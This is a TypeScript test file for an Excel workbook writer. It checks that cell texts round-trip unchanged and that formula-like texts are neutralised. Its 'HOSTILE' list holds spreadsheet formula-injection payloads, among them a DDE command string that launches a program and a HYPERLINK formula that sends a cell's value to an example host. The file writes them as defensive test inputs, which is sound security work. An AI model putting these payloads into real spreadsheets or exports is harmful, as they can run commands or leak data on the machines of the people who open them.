import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { streamOf } from '../../../support/byte-streams.ts';
import { cellAt, column, partsOf, sheetOf, workbookOf } from './workbook-reader.ts';

const MAX_CELL_CHARACTERS = 32_767;

function file(...texts: string[]): Promise<Uint8Array> {
  return workbookOf([{ name: 'S', columns: [column('text')], rows: streamOf(texts.map((text) => [text])) }]);
}

/** Reads the texts back with another library. */
async function read(...texts: string[]): Promise<unknown[]> {
  const sheet = await sheetOf(await file(...texts));
  return texts.map((_, index) => cellAt(sheet, `A${index + 2}`)?.v);
}

describe('the texts of a sheet', () => {
  it('texts in every alphabet are read back unchanged', async () => {
    const texts = [
      'Peña & Çà',
      '<b>"x" \'y\'</b>',
      'Ελληνικά',
      'Русский',
      '漢字🧾',
      ' two  spaces ',
      'a\nb\tc',
      ']]>',
    ];
    expect(await read(...texts)).toEqual(texts);
  });

  it('texts that look like numbers or dates stay texts', async () => {
    const texts = ['00123', '1e5', '2026-03-14', 'TRUE', '12,50', '#N/A'];
    const sheet = await sheetOf(await file(...texts));
    texts.forEach((text, index) => {
      expect(cellAt(sheet, `A${index + 2}`)).toMatchObject({ t: 's', v: text, z: '@' });
    });
  });

  it('texts that look like an Excel escape are read literally', async () => {
    const texts = ['_x0041_', 'a_x000D_b', '_x005F_x0041_', '_X00e9_', '_x41_'];
    expect(await read(...texts)).toEqual(texts);
    expect(partsOf(await file('_x0041_')).get('xl/worksheets/sheet1.xml')).toContain('<t>_x005F_x0041_</t>');
  });

  it('characters invalid in XML become U+FFFD, and line ends become those of Excel', async () => {
    expect(await read('a\u0000b\u001fc\uffff', 'half \ud83e', 'a\r\nb\rc')).toEqual([
      'a\ufffdb\ufffdc\ufffd',
      'half \ufffd',
      'a\nb\nc',
    ]);
  });

  it('texts are cut to the limit of Excel with an ellipsis and never inside a character', async () => {
    const [fits, long, astral] = await read(
      'x'.repeat(MAX_CELL_CHARACTERS),
      'x'.repeat(MAX_CELL_CHARACTERS + 1),
      `x${'🧾'.repeat(20_000)}`,
    );
    expect(fits).toBe('x'.repeat(MAX_CELL_CHARACTERS));
    expect(long).toBe(`${'x'.repeat(MAX_CELL_CHARACTERS - 1)}…`);
    expect(astral).toBe(`x${'🧾'.repeat(16_382)}…`);
  });

  it('any text is read back with only the invalid characters replaced', async () => {
    const text = fc.string({ unit: 'binary', minLength: 1, maxLength: 200 });
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 20 }), async (texts) => {
        const wanted = texts.map((value) =>
          value
            .toWellFormed()
            .replace(/\r\n?/g, '\n')
            .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '\ufffd'),
        );
        expect(await read(...texts)).toEqual(wanted);
      }),
      { numRuns: 200 },
    );
  });
});

describe('texts that look like formulas', () => {
  const HOSTILE = [
    '=1+1',
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+34 600 000 000',
    '-5% descuento',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '＝1+1',
  ];

  it('a text that looks like a formula is stored as text and read back unchanged', async () => {
    const sheet = await sheetOf(await file(...HOSTILE));
    HOSTILE.forEach((text, index) => {
      const cell = cellAt(sheet, `A${index + 2}`);
      expect(cell).toMatchObject({ t: 's', v: text.replace('\r', '\n') });
      expect(cell?.hasFormula).toBe(false);
    });
  });

  it('texts that look like formulas have the quote prefix and other texts do not', async () => {
    const parts = partsOf(await file(...HOSTILE, 'a=b', 'harmless'));
    const formats =
      parts
        .get('xl/styles.xml')
        ?.match(/<cellXfs.*<\/cellXfs>/)?.[0]
        .match(/<xf [^>]*>/g) ?? [];
    const cells = [...(parts.get('xl/worksheets/sheet1.xml') ?? '').matchAll(/<c r="A(\d+)" s="(\d+)"/g)];
    const marked = cells.slice(1).map(([, , style]) => formats[Number(style)]?.includes('quotePrefix="1"'));
    expect(marked).toEqual([...HOSTILE.map(() => true), false, false]);
    const asText = cells.slice(1).map(([, , style]) => formats[Number(style)]?.includes('numFmtId="49"'));
    expect(asText).toEqual(cells.slice(1).map(() => true));
  });

  it('the workbook contains no formula element', async () => {
    const parts = partsOf(await file(...HOSTILE));
    expect(parts.get('xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >/]/);
  });
});
